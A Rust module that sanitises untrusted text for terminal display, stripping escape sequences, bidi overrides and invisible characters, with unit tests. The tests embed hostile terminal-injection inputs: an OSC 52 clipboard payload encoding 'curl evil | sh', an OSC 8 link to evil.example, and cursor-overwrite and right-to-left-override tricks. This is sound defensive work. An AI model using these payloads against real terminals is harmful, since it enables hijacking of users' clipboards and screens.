//! Makes text from outside the binary safe to store and to show on any terminal.
//!
//! A log line, a runbook title, an AWS error message or an environment variable is
//! attacker-controlled input: anyone who can make a NexTalk server log a chat message, edit a
//! runbook file or name an SSM document can put bytes in it. Shown raw, escape sequences could
//! move the cursor over other panes, retitle the terminal, write the engineer's clipboard
//! (OSC 52), plant a hyperlink (OSC 8), conceal text, or rewrite a line with `\r`; bidi
//! controls can show text in another order than it is stored ("Trojan Source"), and
//! zero-width characters can make two different names look the same.
//!
//! One rule decides what is unsafe ([`is_unsafe`]), and every path to a terminal applies it:
//! - [`sanitize_line`] / [`sanitize_text`]: text to display (log lines, runbook prose, error
//!   messages), with the unsafe characters and whole escape sequences removed;
//! - [`escape_field`]: one field of a record (the audit table), with unsafe characters shown
//!   as visible escapes, so a value can neither hide nor break out of its cell or row;
//! - [`echo`]: a value quoted back in an error message, sanitised and cut to a sane length;
//! - [`json_safe`]: JSON for a terminal, with unsafe characters `\u` escaped (nothing lost);
//! - [`TerminalWriter`]: an `io::Write` that sanitises each line on its way to stdout, for the
//!   headless commands' output.
//!
//! Escape sequences are recognised by `vte` (the parser behind Alacritty), not by a
//! hand-rolled state machine: CSI, OSC (ended by BEL or ST), DCS, SOS/PM/APC strings and lone
//! ESC are consumed whole. What is left is filtered per character with [`is_unsafe`]; tab
//! becomes spaces. Invalid UTF-8 becomes U+FFFD.

use std::borrow::Cow;
use std::fmt::Write as _;
use std::io;
use unicode_width::UnicodeWidthChar;

/// Tab stops every 8 columns, as a terminal would place them.
const TAB_WIDTH: usize = 8;

/// How many characters of a value an error message quotes back.
pub const MAX_ECHO: usize = 80;

/// How many characters of one message (an error, a record field) reach the terminal.
pub const MAX_MESSAGE: usize = 2000;

/// True for every character that must not reach a terminal as it is:
/// - C0 and C1 controls and DEL (ESC starts sequences; CR, BS, VT, FF move the cursor);
/// - bidi embeddings, overrides and isolates (U+202A–U+202E, U+2066–U+2069), the implicit
///   marks LRM, RLM and ALM (U+200E, U+200F, U+061C), the deprecated format controls
///   (U+206A–U+206F): they reorder what follows;
/// - zero-width and invisible characters (U+200B–U+200D, U+2060–U+2064, U+FEFF, U+180E,
///   U+FFF9–U+FFFB, the tag characters U+E0000–U+E007F): they make different strings look
///   the same, or hide text;
/// - the line and paragraph separators U+2028 and U+2029, which some terminals and most
///   viewers break lines at.
pub fn is_unsafe(c: char) -> bool {
    c.is_control()
        || matches!(
            c,
            '\u{202A}'..='\u{202E}'
                | '\u{2066}'..='\u{2069}'
                | '\u{206A}'..='\u{206F}'
                | '\u{200B}'..='\u{200F}'
                | '\u{2060}'..='\u{2064}'
                | '\u{061C}'
                | '\u{180E}'
                | '\u{FEFF}'
                | '\u{FFF9}'..='\u{FFFB}'
                | '\u{2028}'
                | '\u{2029}'
                | '\u{E0000}'..='\u{E007F}'
        )
}

/// One line of untrusted bytes (without its line ending) to printable text.
///
/// Each call uses a fresh parser, so an unterminated sequence in one line cannot swallow the
/// lines after it.
pub fn sanitize_line(bytes: &[u8]) -> String {
    // Fast path: almost every log line is plain printable text. Checking is much cheaper than
    // running the parser, and the result is identical.
    if let Ok(s) = std::str::from_utf8(bytes)
        && !s.chars().any(is_unsafe)
    {
        return s.to_owned();
    }
    let mut out = Printable { text: String::with_capacity(bytes.len()), col: 0 };
    let mut parser = vte::Parser::new();
    parser.advance(&mut out, bytes);
    // A line that ends inside a UTF-8 sequence leaves it buffered in the parser; a line feed
    // makes the parser give it up as U+FFFD (the line feed itself is a control and dropped).
    parser.advance(&mut out, b"\n");
    out.text
}

/// [`sanitize_line`] for text that is already a `str` (remote command output, error text,
/// runbook prose). Multi-line text keeps its line breaks (`\n`, `\r\n`); each line is
/// sanitised on its own. This is the function every outside text goes through before a
/// terminal.
pub fn sanitize_text(text: &str) -> String {
    if !text.chars().any(|c| c != '\n' && is_unsafe(c)) {
        return text.to_owned();
    }
    let mut out = String::with_capacity(text.len());
    for (i, line) in text.split('\n').enumerate() {
        if i > 0 {
            out.push('\n');
        }
        out.push_str(&sanitize_line(line.strip_suffix('\r').unwrap_or(line).as_bytes()));
    }
    out
}

/// [`sanitize_text`] for a value shown on one line (a name, a title, a status): line breaks
/// become spaces, so the value cannot start a line of its own.
pub fn sanitize_one_line(text: &str) -> String {
    let clean = sanitize_text(text);
    if clean.contains('\n') { clean.split('\n').collect::<Vec<_>>().join(" ") } else { clean }
}

/// One field of a record, for a table: every unsafe character is shown as a visible escape
/// (`\n`, `\t`, `\r`, `\u{1b}`, `\u{202e}`…) instead of being acted on or dropped, so the
/// reader sees exactly what was recorded and no value can start a new row or hide itself.
/// Cut to [`MAX_MESSAGE`] characters.
pub fn escape_field(value: &str) -> String {
    if !value.chars().any(is_unsafe) {
        return cut(value, MAX_MESSAGE).into_owned();
    }
    let mut out = String::with_capacity(value.len() + 8);
    for c in value.chars() {
        match c {
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if is_unsafe(c) => {
                let _ = write!(out, "\\u{{{:x}}}", c as u32);
            }
            c => out.push(c),
        }
    }
    cut(&out, MAX_MESSAGE).into_owned()
}

/// At most `max` characters of `s`; a longer text ends in `…` (which counts as one).
pub fn cut(s: &str, max: usize) -> Cow<'_, str> {
    match s.char_indices().nth(max) {
        None => Cow::Borrowed(s),
        Some(_) => {
            let keep = max.saturating_sub(1);
            let end = s.char_indices().nth(keep).map_or(s.len(), |(i, _)| i);
            Cow::Owned(format!("{}…", &s[..end]))
        }
    }
}

/// A value quoted back in an error message: sanitised to one line and cut to [`MAX_ECHO`]
/// characters (a 50 MB bad value is named by its first few dozen characters).
pub fn echo(value: &str) -> String {
    cut(&sanitize_one_line(value), MAX_ECHO).into_owned()
}

/// An error message for the terminal: sanitised, and every value it quotes (between `"…"` as
/// `{:?}` writes them, or between backticks as `toml` does) cut to [`MAX_ECHO`] characters,
/// the whole cut to [`MAX_MESSAGE`]. Messages are made in many places; this is applied where
/// they are shown, so none of them can echo an unbounded value.
pub fn message(text: &str) -> String {
    let clean = sanitize_text(text);
    cut(&cut_quoted(&clean), MAX_MESSAGE).into_owned()
}

/// Shortens each quoted part of `text` that is longer than [`MAX_ECHO`].
fn cut_quoted(text: &str) -> Cow<'_, str> {
    if text.len() <= MAX_ECHO {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len().min(MAX_MESSAGE * 4));
    let mut rest = text;
    let mut changed = false;
    while let Some(open) = rest.find(['"', '`']) {
        let quote = rest.as_bytes()[open];
        out.push_str(&rest[..=open]);
        let body_start = open + 1;
        let body = &rest[body_start..];
        // A `"` inside a Debug-quoted value is escaped as `\"`; backticks have no escapes.
        let mut end = None;
        let mut escaped = false;
        for (i, b) in body.bytes().enumerate() {
            if quote == b'"' && escaped {
                escaped = false;
            } else if quote == b'"' && b == b'\\' {
                escaped = true;
            } else if b == quote {
                end = Some(i);
                break;
            }
        }
        let (value, after) = match end {
            Some(i) => (&body[..i], &body[i..]),
            None => (body, ""),
        };
        let short = cut(value, MAX_ECHO);
        changed |= matches!(short, Cow::Owned(_));
        out.push_str(&short);
        match after.chars().next() {
            Some(c) => {
                out.push(c);
                rest = &after[c.len_utf8()..];
            }
            None => rest = after,
        }
    }
    out.push_str(rest);
    if changed { Cow::Owned(out) } else { Cow::Borrowed(text) }
}

/// JSON text made safe for a terminal without losing anything: each unsafe character other
/// than the line feeds between JSON lines is written as a `\uXXXX` escape. `serde_json`
/// already escapes C0 controls, but not C1 controls, bidi controls, zero-width characters or
/// U+2028/U+2029. Such characters can only occur inside strings in valid JSON, where an escape
/// means the same character, so the document's meaning is unchanged.
pub fn json_safe(json: &str) -> Cow<'_, str> {
    if !json.chars().any(|c| c != '\n' && is_unsafe(c)) {
        return Cow::Borrowed(json);
    }
    let mut out = String::with_capacity(json.len() + 16);
    for c in json.chars() {
        if c != '\n' && is_unsafe(c) {
            let mut units = [0u16; 2];
            for u in c.encode_utf16(&mut units) {
                let _ = write!(out, "\\u{:04x}", u);
            }
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// An `io::Write` that passes text to `inner` line by line, each line through
/// [`sanitize_line`]: the headless commands write their reports (runbook titles, server names,
/// command ids and error messages from AWS) through it, so nothing they print can act on the
/// terminal. A partial line is held until its line feed, a flush, or 64 KiB.
pub struct TerminalWriter<W: io::Write> {
    inner: W,
    pending: Vec<u8>,
}

/// A line longer than this is written out in pieces (each sanitised on its own).
const MAX_PENDING: usize = 64 * 1024;

impl<W: io::Write> TerminalWriter<W> {
    pub fn new(inner: W) -> Self {
        TerminalWriter { inner, pending: Vec::new() }
    }

    fn emit_pending(&mut self) -> io::Result<()> {
        if !self.pending.is_empty() {
            let line = sanitize_line(&self.pending);
            self.pending.clear();
            self.inner.write_all(line.as_bytes())?;
        }
        Ok(())
    }
}

impl<W: io::Write> io::Write for TerminalWriter<W> {
    fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
        let mut rest = buf;
        while let Some(nl) = rest.iter().position(|&b| b == b'\n') {
            self.pending.extend_from_slice(&rest[..nl]);
            if self.pending.last() == Some(&b'\r') {
                self.pending.pop();
            }
            self.emit_pending()?;
            self.inner.write_all(b"\n")?;
            rest = &rest[nl + 1..];
        }
        self.pending.extend_from_slice(rest);
        if self.pending.len() >= MAX_PENDING {
            self.emit_pending()?;
        }
        Ok(buf.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        self.emit_pending()?;
        self.inner.flush()
    }
}

impl<W: io::Write> Drop for TerminalWriter<W> {
    fn drop(&mut self) {
        // Nowhere to report a failure from a drop; an explicit flush reports it.
        let _ = self.emit_pending();
        let _ = self.inner.flush();
    }
}

/// The `vte` performer that keeps only printable characters.
struct Printable {
    text: String,
    /// Display column, for tab stops.
    col: usize,
}

impl vte::Perform for Printable {
    fn print(&mut self, c: char) {
        // vte hands DEL and (in UTF-8) format characters to `print`; filter again.
        if !is_unsafe(c) {
            self.text.push(c);
            self.col += c.width().unwrap_or(0);
        }
    }

    fn execute(&mut self, byte: u8) {
        // Every other C0/C1 control (BEL, BS, CR, LF, VT, FF, SI/SO, 8-bit CSI…) is dropped:
        // each of them can move the cursor or change how later text is shown.
        if byte == b'\t' {
            let spaces = TAB_WIDTH - self.col % TAB_WIDTH;
            self.text.extend(std::iter::repeat_n(' ', spaces));
            self.col += spaces;
        }
    }
    // CSI, OSC, DCS, ESC dispatches keep the default (ignore), so sequences vanish whole.
}

#[cfg(test)]
mod tests {
    use super::*;

    /// No byte that a terminal treats as a control survives: no ESC, no C0 except none at all
    /// (tabs are expanded), no DEL, no C1 in UTF-8 form.
    fn assert_inert(s: &str) {
        for (i, b) in s.bytes().enumerate() {
            assert!(b >= 0x20 && b != 0x7f, "control byte {b:#04x} at {i} in {s:?}");
        }
        for c in s.chars() {
            assert!(!('\u{80}'..='\u{9f}').contains(&c), "C1 control {c:?} in {s:?}");
            assert!(!is_unsafe(c), "unsafe character {c:?} in {s:?}");
        }
    }

    #[test]
    fn plain_lines_pass_through_unchanged() {
        let line = "2026-11-22T03:04:05Z INFO  Chat bridge connected (café, 東京)";
        assert_eq!(sanitize_line(line.as_bytes()), line);
    }

    #[test]
    fn cursor_movement_and_erasing_are_removed() {
        // Cursor up, column 1, erase line, save/restore cursor, scroll region, alternate screen.
        let hostile = b"ok\x1b[1A\x1b[1G\x1b[2K\x1b7\x1b8\x1b[1;5r\x1b[?1049h then\x1b[H";
        let out = sanitize_line(hostile);
        assert_eq!(out.as_bytes(), b"ok then");
        assert_inert(&out);
    }

    #[test]
    fn title_changes_are_removed_with_either_terminator() {
        let bel = sanitize_line(b"a\x1b]0;pwned\x07b");
        let st = sanitize_line(b"a\x1b]2;pwned\x1b\\b");
        assert_eq!(bel.as_bytes(), b"ab");
        assert_eq!(st.as_bytes(), b"ab");
    }

    #[test]
    fn clipboard_writes_are_removed() {
        // OSC 52: set the clipboard to base64("curl evil | sh").
        let out = sanitize_line(b"log \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07line");
        assert_eq!(out.as_bytes(), b"log line");
        assert!(!out.contains("52;"));
        assert!(!out.contains("Y3Vyb"));
    }

    #[test]
    fn device_control_and_privacy_strings_are_removed() {
        let dcs = sanitize_line(b"a\x1bP1$qm\x1b\\b"); // DECRQSS: asks the terminal to reply
        let apc = sanitize_line(b"a\x1b_Gpayload\x1b\\b"); // kitty graphics
        let pm = sanitize_line(b"a\x1b^secret\x1b\\b");
        let sos = sanitize_line(b"a\x1bXsos\x1b\\b");
        for out in [dcs, apc, pm, sos] {
            assert_eq!(out.as_bytes(), b"ab");
        }
    }

    #[test]
    fn text_cannot_be_hidden_or_overwritten() {
        // Concealed text stays visible (the SGR is removed, the text stays).
        assert_eq!(sanitize_line(b"shown\x1b[8mhidden\x1b[0m").as_bytes(), b"shownhidden");
        // A carriage return or backspaces would let later text overwrite earlier text.
        assert_eq!(sanitize_line(b"rm -rf /\rls").as_bytes(), b"rm -rf /ls");
        assert_eq!(sanitize_line(b"evil\x08\x08\x08\x08good").as_bytes(), b"evilgood");
        // Right-to-left override would show "txt.exe" as "exe.txt".
        let rlo = sanitize_line("file\u{202E}txt.exe".as_bytes());
        assert_eq!(rlo, "filetxt.exe");
        assert_inert(&rlo);
    }

    #[test]
    fn lone_escape_bell_and_c1_controls_are_dropped() {
        assert_eq!(sanitize_line(b"a\x1bb\x07c\x7fd").as_bytes(), b"acd");
        // C1 as raw 8-bit bytes (invalid UTF-8) and as UTF-8 encoded code points (U+009B CSI).
        let raw = sanitize_line(b"x\x9b31my");
        assert_inert(&raw);
        assert!(!raw.as_bytes().contains(&0x9b));
        let encoded = sanitize_line("x\u{9b}31my\u{90}z".as_bytes());
        assert_inert(&encoded);
        assert_eq!(encoded, "x31myz");
    }

    #[test]
    fn invalid_utf8_is_replaced_not_dropped() {
        assert_eq!(sanitize_line(b"bad \xff\xfe byte"), "bad \u{FFFD}\u{FFFD} byte");
        // Cut off in the middle of a multi-byte character at the end of the line.
        assert_eq!(sanitize_line(b"cut \xe6\x9d"), "cut \u{FFFD}");
    }

    #[test]
    fn unterminated_sequences_do_not_leak_into_later_lines() {
        assert_eq!(sanitize_line(b"start\x1b]0;never ended"), "start");
        assert_eq!(sanitize_line(b"next line"), "next line");
    }

    #[test]
    fn tabs_become_spaces_to_the_next_stop() {
        assert_eq!(sanitize_line(b"a\tb"), "a       b");
        assert_eq!(sanitize_line(b"12345678\tx"), "12345678        x");
        assert_eq!(sanitize_line(b"\x1b[31m\tx"), "        x");
    }

    #[test]
    fn byte_order_mark_is_dropped() {
        assert_eq!(sanitize_line("\u{FEFF}2026 INFO x".as_bytes()), "2026 INFO x");
    }

    #[test]
    fn multi_line_text_keeps_its_breaks() {
        assert_eq!(sanitize_text("a\x1b[2J\r\nb\x07\nc"), "a\nb\nc");
    }

    #[test]
    fn every_single_byte_is_inert_after_sanitising() {
        for b in 0u8..=255 {
            let out = sanitize_line(&[b'<', b, b'>']);
            assert_inert(&out);
        }
        for a in [0x1bu8, 0x9b, 0x9d, 0x90] {
            for b in 0u8..=255 {
                assert_inert(&sanitize_line(&[a, b, b'x', 0x07, b'y']));
            }
        }
    }

    #[test]
    fn zero_width_marks_and_separators_are_dropped() {
        // Each of these survived the sanitiser before issue 11: ZWSP, ZWNJ, ZWJ, word joiner,
        // LRM, RLM, ALM, the line and paragraph separators, a tag character.
        for c in [
            '\u{200B}',
            '\u{200C}',
            '\u{200D}',
            '\u{2060}',
            '\u{200E}',
            '\u{200F}',
            '\u{061C}',
            '\u{2028}',
            '\u{2029}',
            '\u{E0041}',
            '\u{2066}',
            '\u{2069}',
            '\u{FEFF}',
        ] {
            let hostile = format!("nt{c}-a");
            assert_eq!(sanitize_line(hostile.as_bytes()), "nt-a", "{c:?} kept");
            assert_eq!(sanitize_text(&hostile), "nt-a", "{c:?} kept");
            assert_inert(&sanitize_text(&hostile));
        }
    }

    #[test]
    fn hyperlinks_and_clipboard_writes_vanish_whole_from_text() {
        let osc8 = "see \u{1b}]8;;https://evil.example/\u{1b}\\here\u{1b}]8;;\u{1b}\\ now";
        assert_eq!(sanitize_text(osc8), "see here now");
        let osc52 = "title\u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7}";
        assert_eq!(sanitize_text(osc52), "title");
        assert_eq!(sanitize_one_line("two\nlines\r\nhere"), "two lines here");
    }

    #[test]
    fn record_fields_show_what_they_hide() {
        assert_eq!(escape_field("alice\n2026-11-22 bob Success"), "alice\\n2026-11-22 bob Success");
        assert_eq!(escape_field("a\u{1b}[2Jb\u{202E}c"), "a\\u{1b}[2Jb\\u{202e}c");
        assert_eq!(escape_field("C:\\ProgramData plain"), "C:\\ProgramData plain");
        let long = "x".repeat(MAX_MESSAGE + 10);
        assert_eq!(escape_field(&long).chars().count(), MAX_MESSAGE);
        assert!(escape_field(&long).ends_with('…'));
    }

    #[test]
    fn echoes_of_values_are_cut() {
        let huge = "A".repeat(50 * 1024 * 1024);
        let e = echo(&huge);
        assert_eq!(e.chars().count(), MAX_ECHO);
        assert!(e.ends_with('…'));
        let m = message(&format!("c.toml:1:1: bad theme name {huge:?}: use 1-64 letters"));
        assert!(m.len() < 200, "{} bytes", m.len());
        assert!(m.starts_with("c.toml:1:1: bad theme name \"AAAA"), "{m}");
        assert!(m.ends_with("A…\": use 1-64 letters"), "{m}");
        let t = message(&format!("unknown field `{}`, expected one of `a`, `b`", "k".repeat(1000)));
        assert!(t.ends_with("k…`, expected one of `a`, `b`"), "{t}");
        // Short messages and quotes are left alone, escaped quotes included.
        let short = r#"service "a\"b" is listed twice"#;
        assert_eq!(message(short), short);
        assert_eq!(message(&"z".repeat(MAX_MESSAGE * 2)).chars().count(), MAX_MESSAGE);
    }

    #[test]
    fn json_keeps_every_character_but_escapes_the_unsafe_ones() {
        let v = serde_json::json!({ "user": "a\u{202E}b\u{9b}c\u{2028}d\u{E0041}", "n": 1 });
        let text = serde_json::to_string(&v).unwrap();
        let safe = json_safe(&text);
        assert_inert(&safe);
        let back: serde_json::Value = serde_json::from_str(&safe).unwrap();
        assert_eq!(back, v);
        assert!(safe.contains("\\u202e") && safe.contains("\\udb40\\udc41"), "{safe}");
    }

    #[test]
    fn the_terminal_writer_sanitises_each_line() {
        use std::io::Write as _;
        let mut out = Vec::new();
        {
            let mut w = TerminalWriter::new(&mut out);
            write!(w, "runbook x: evil\u{1b}]52;c;aGk=\u{7} title\r\nsent ").unwrap();
            writeln!(w, "cmd\u{1b}[2J-1\u{202E}").unwrap();
            write!(w, "tail \u{1b}[").unwrap();
            w.flush().unwrap();
        }
        let text = String::from_utf8(out).unwrap();
        assert_eq!(text, "runbook x: evil title\nsent cmd-1\ntail ");
    }
}
